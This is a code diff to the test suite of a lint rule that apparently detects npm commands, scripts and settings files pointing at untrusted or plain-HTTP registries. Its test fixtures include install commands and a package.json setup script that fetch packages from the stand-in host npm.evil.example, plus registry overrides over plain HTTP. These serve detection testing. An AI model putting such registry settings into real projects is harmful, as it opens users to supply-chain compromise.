@@ -18,6 +18,7 @@ const trusted = { settings: { trustedRegistries: ['npm.evil.example'] } };
 
 await ruleTester(rule, {
   valid: [
+    fence('npm login --registry=http://packages.example.com --scope=@acme'),
     ...strictCases.map(({ valid }) => valid),
     sh(`npm install --registry ${PUBLIC}`),
     sh('npm publish --registry http://localhost:4873'),
@@ -56,6 +57,8 @@ await ruleTester(rule, {
     { code: '{"permissions":{"deny":["x"]},"env":{"A":"https://npm.evil.example"}}', filename: '.claude/settings.json' },
   ],
   invalid: [
+    bad(fence('npm login --registry=http://packages.example-service.com --scope=@acme'), 'plain'),
+    bad(sh('npm config set registry http://packages.example.com'), 'plain'),
     ...strictCases.map(({ invalid }) => invalid),
     { code: `{\n  "scripts": {\n    "setup": "echo \\"a\\" && npm i --registry=${HOST}"\n  }\n}`, filename: 'package.json', errors: [{ messageId: 'registry', line: 3, column: 35, endLine: 3, endColumn: 71, data: { name: '--registry', host: 'npm.evil.example' } }] },
     { ...sh(`cd x\nnpm i --registry ${HOST}`), errors: [{ messageId: 'registry', line: 2, column: 18, endLine: 2, endColumn: 43 }] },
